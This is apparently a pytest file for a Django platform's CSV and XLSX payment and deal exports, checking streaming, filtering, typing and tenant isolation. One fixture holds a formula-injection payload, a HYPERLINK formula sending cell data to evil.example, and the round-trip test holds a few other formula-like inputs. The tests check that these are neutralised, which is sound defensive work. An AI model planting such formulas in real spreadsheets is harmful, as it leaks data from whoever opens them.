"""Payments and deals as CSV (streamed) and XLSX (write-only openpyxl): the filtered rows, numbers as
numbers, money with two places, and no cell a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from franchise_platform.security.spreadsheets import Money, SpreadsheetSafeXlsx
from tests.factories import shop
from tests.panel_payments.conftest import owner  # noqa: F401  (fixture)

from .test_dashboard import days_ago, paid

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Квест")'


@pytest.fixture
def rows(in_network):
    kazan = shop(merchant_login="kazan", partner__name="@Альфа")
    ufa = shop(merchant_login="ufa")
    first = paid(
        kazan.partner.locations.get(), amount="1500.00", paid_at=days_ago(1), title=HOSTILE
    )
    second = paid(
        ufa.partner.locations.get(),
        amount="2500.50",
        total="5000.00",
        status="partially_paid",
        paid_at=days_ago(3),
        title="+7 (999) 000-00-00\x01",
        service_date=timezone.now() + timedelta(days=1),
    )
    paid(ufa.partner.locations.get(), amount="10.00", paid_at=days_ago(2), is_test=True)
    return {"kazan": kazan.partner, "ufa": ufa.partner, "first": first, "second": second}


def _csv(response) -> list[dict[str, str]]:
    assert response.streaming  # never built whole in memory
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _xlsx(response):
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    return header, list(sheet.iter_rows(min_row=2))


def test_payments_xlsx_types_its_cells(in_network, owner, rows):  # noqa: F811
    response = owner.get("/panel/payments/export.xlsx")
    header, body = _xlsx(response)

    assert response["Content-Disposition"].startswith('attachment; filename="payments-')
    assert header[:3] == ["Когда оплачен", "Сумма, ₽", "Валюта"]
    by_deal = {r[5].value: r for r in body}
    first = by_deal[rows["first"].crm_deal_id]
    assert isinstance(first[0].value, datetime) and first[0].number_format == "dd.mm.yyyy hh:mm"
    assert first[1].data_type == "n" and first[1].value == 1500
    assert first[1].number_format == "#,##0.00"
    assert by_deal[rows["second"].crm_deal_id][1].value == pytest.approx(2500.5)
    assert first[4].data_type == "n"  # the invoice number is a number
    # Formula-like text stays text, exactly as typed, with Excel's quote prefix.
    assert first[6].value == HOSTILE and first[6].data_type == "s" and first[6].quotePrefix
    assert first[7].value == "@Альфа" and first[7].data_type == "s" and first[7].quotePrefix
    # A control character XML cannot hold is dropped instead of failing the export.
    assert by_deal[rows["second"].crm_deal_id][6].value == "+7 (999) 000-00-00"
    assert len(body) == 3
    test_row = next(r for r in body if r[12].value == "ТЕСТ")
    assert test_row[11].value == "да"


def test_payments_xlsx_follows_the_filter(in_network, owner, rows):  # noqa: F811
    _, body = _xlsx(owner.get("/panel/payments/export.xlsx", {"partner": str(rows["kazan"].pk)}))

    assert [r[5].value for r in body] == [rows["first"].crm_deal_id]


def test_deals_csv_is_streamed_filtered_and_neutralised(in_network, owner, rows):  # noqa: F811
    response = owner.get("/panel/deals/export.csv", {"status": "partially_paid"})
    listed = _csv(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="deals-')
    assert [r["crm_deal_id"] for r in listed] == [str(rows["second"].crm_deal_id)]
    row = listed[0]
    assert (row["total"], row["paid"], row["remaining"]) == ("5000.00", "2500.50", "2499.50")
    assert row["status"] == "partially_paid" and row["title"].startswith("'+7 (999)")
    assert row["service_date"].endswith("+03:00")

    everything = {r["crm_deal_id"]: r for r in _csv(owner.get("/panel/deals/export.csv"))}
    assert everything[str(rows["first"].crm_deal_id)]["title"] == "'" + HOSTILE
    assert everything[str(rows["first"].crm_deal_id)]["partner"] == "'@Альфа"


def test_deals_xlsx(in_network, owner, rows):  # noqa: F811
    header, body = _xlsx(owner.get("/panel/deals/export.xlsx"))

    assert header[:5] == ["Создана", "Сделка amoCRM", "Название", "Статус", "Стоимость, ₽"]
    by_deal = {r[1].value: r for r in body}
    second = by_deal[rows["second"].crm_deal_id]
    assert second[3].value == "Оплачена частично"
    assert [c.value for c in second[4:7]] == [5000, 2500.5, 2499.5]
    assert all(c.number_format == "#,##0.00" for c in second[4:10])
    assert isinstance(second[13].value, datetime)
    assert by_deal[rows["first"].crm_deal_id][2].value == HOSTILE
    assert by_deal[rows["first"].crm_deal_id][13].value is None  # no service date: empty cell


def test_the_lists_link_their_exports_with_the_filter(in_network, owner, rows):  # noqa: F811
    partner = rows["kazan"].pk
    payments = owner.get("/panel/payments/", {"partner": partner}).content.decode()
    deals = owner.get("/panel/deals/", {"partner": partner}).content.decode()

    assert f"/panel/payments/export.xlsx?partner={partner}" in payments
    assert f"/panel/deals/export.csv?partner={partner}" in deals
    assert f"/panel/deals/export.xlsx?partner={partner}" in deals


def test_viewer_exports_and_network_b_gets_nothing_of_a(in_network, owner_b, rows):
    viewer = in_network.viewer.browser_client()
    assert len(_xlsx(viewer.get("/panel/deals/export.xlsx"))[1]) == 3
    assert len(_csv(viewer.get("/panel/deals/export.csv"))) == 3

    other = owner_b.browser_client()
    assert _csv(other.get("/panel/deals/export.csv")) == []
    assert _xlsx(other.get("/panel/payments/export.xlsx"))[1] == []


def test_xlsx_writer_round_trip():
    book = SpreadsheetSafeXlsx(title="Платежи: [итог]/2026?")
    book.writerow(["=1+1", "-2+3", "\t=cmd", "plain", 7, Decimal("1.5"), Money("3"), None, True])
    out = io.BytesIO()
    book.save(out)

    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    cells = next(iter(sheet.iter_rows()))
    assert sheet.title == "Платежи   итог  2026 "
    assert [c.value for c in cells[:4]] == ["=1+1", "-2+3", "\t=cmd", "plain"]
    assert all(c.data_type == "s" for c in cells[:4])
    assert [c.quotePrefix for c in cells[:4]] == [True, True, True, False]
    assert [c.value for c in cells[4:]] == [7, 1.5, 3, None, True]
    assert cells[6].number_format == "#,##0.00"


def test_an_xlsx_too_large_is_refused_with_the_way_out(in_network, owner, rows, monkeypatch):  # noqa: F811
    """Past XLSX_MAX_ROWS the workbook (built whole before it is sent) is refused: back to the
    list, filter kept, with a Russian message pointing to a narrower filter or the CSV."""
    monkeypatch.setattr("franchise_platform.panel.views.exports.XLSX_MAX_ROWS", 2)

    refused = owner.get("/panel/payments/export.xlsx", {"paid_from": "2020-01-01"})
    deals = owner.get("/panel/deals/export.xlsx")
    page = owner.get(refused["Location"]).content.decode()

    assert refused.status_code == 302
    assert refused["Location"] == "/panel/payments/?paid_from=2020-01-01"
    assert "В XLSX помещается не больше 2 строк, а по этому фильтру их 3" in page
    assert deals.status_code == 302 and deals["Location"] == "/panel/deals/"
    # Within the limit it is served, and the CSV has no limit.
    one = owner.get("/panel/payments/export.xlsx", {"partner": str(rows["kazan"].pk)})
    assert one.status_code == 200
    assert len(_csv(owner.get("/panel/payments/export.csv"))) == 3
